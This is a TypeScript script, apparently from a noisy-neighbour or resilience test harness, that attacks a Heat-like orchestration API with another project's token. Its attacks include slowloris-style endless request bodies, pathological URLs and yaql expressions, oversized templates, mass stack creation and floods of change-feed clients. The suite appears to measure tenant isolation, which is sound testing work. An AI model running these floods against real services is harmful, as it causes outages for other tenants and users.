/**
 * Attacks a host until it is killed: `node attacker.ts NAME URL TOKEN`. The token belongs to
 * another project than the measured one.
 */
import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { JsonObject } from "#lib/json.ts";
import { BEHAVIOURS, holdConnections } from "./connections.ts";

const SECOND_MS = 1_000;
const HOST_KEY =
  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGlvvPc2SCvTzFFUaCUUqY6SJDnP6yGEBQmM1w2cZ1hx machine";
const [name = "", url = "", token = ""] = process.argv.slice(2);
const headers = { "X-Auth-Token": token };

const post = async (path: string, body: JsonObject): Promise<void> => {
  const request = { method: "POST", headers, body: JSON.stringify(body) };
  await (await fetch(`${url}/v1/other${path}`, request)).text();
};
const hot = (resources: JsonObject, outputs: JsonObject = {}): JsonObject => ({
  heat_template_version: "2021-04-16",
  resources,
  outputs,
});
const create = (template: JsonObject): Promise<void> =>
  post("/stacks", { stack_name: `s${crypto.randomUUID()}`, template });

const again = async (clients: number, request: () => Promise<unknown>): Promise<void> => {
  const client = async (): Promise<void> => {
    for (;;) await request().catch(() => pause(SECOND_MS));
  };
  await Promise.all(Array.from({ length: clients }, client));
};

/** Announces bodies without ever sending their end. A closed connection is opened again. */
const endlessBodies = async (connections: number): Promise<void> => {
  const { hostname, port } = new URL(url);
  const body = "x".repeat(1_000_000);
  const head = `POST /v1/agent/signal/0 HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${body.length + 10}\r\n\r\n`;
  const open = (): Socket => {
    const socket = connect(Number(port), hostname);
    socket.on("error", () => undefined);
    socket.resume().write(head + body);
    return socket;
  };
  const sockets = Array.from({ length: connections }, open);
  for (;;) {
    await pause(SECOND_MS);
    sockets.forEach((socket, at) => {
      if (socket.destroyed) sockets[at] = open();
    });
  }
};

const follow = async (): Promise<void> => {
  const { body } = await fetch(`${url}/v1/other/_changes`, { headers });
  await body?.pipeTo(new WritableStream());
};

const many = (resources: number): JsonObject =>
  hot(
    Object.fromEntries(
      Array.from({ length: resources }, (_, at) => [`r${at}`, { type: "OS::Heat::RandomString" }]),
    ),
  );

const ATTACKS: Readonly<Record<string, () => Promise<unknown>>> = {
  // Not attacks, but ordinary requests of another project for comparison.
  lists: () => again(4, async () => (await fetch(`${url}/v1/other/stacks`, { headers })).text()),
  large: () => {
    const properties = { value: `x:${"y".repeat(170_000)}` };
    return again(2, () => create(hot({ one: { type: "OS::Heat::Value", properties } })));
  },
  slashes: () => again(4, async () => (await fetch(`${url}/v3/${"/".repeat(15_800)}x`)).text()),
  digits: () => {
    const expression = `${"1".repeat(60_000)}a`;
    const template = hot({}, { one: { value: { yaql: { expression, data: {} } } } });
    return again(2, () => post("/validate", { template }));
  },
  mime: () => {
    const config = `x:${" ".repeat(170_000)}\u2028`;
    const properties = { parts: [{ config, type: "multipart" }] };
    return again(2, () => create(hot({ one: { type: "OS::Heat::MultipartMime", properties } })));
  },
  ssh: () => {
    const properties = { address: "machine.example", host_key: HOST_KEY, identity: "ops" };
    const template = hot({ one: { type: "Hearth::Machine::SSH", properties } });
    return again(5, async () => {
      await create(template);
      await pause(SECOND_MS);
    });
  },
  bodies: () => endlessBodies(136),
  resources: async () => {
    for (let stack = 0; stack < 5; stack++) await create(many(1_000));
  },
  feeds: () => again(200, follow),
  feedsAndResources: async () => {
    const following = again(200, follow);
    await pause(SECOND_MS);
    for (let stack = 0; stack < 5; stack++) await create(many(1_000));
    await following;
  },
};

const behaviour = BEHAVIOURS[name];
await (behaviour === undefined ? ATTACKS[name]?.() : holdConnections(url, behaviour));
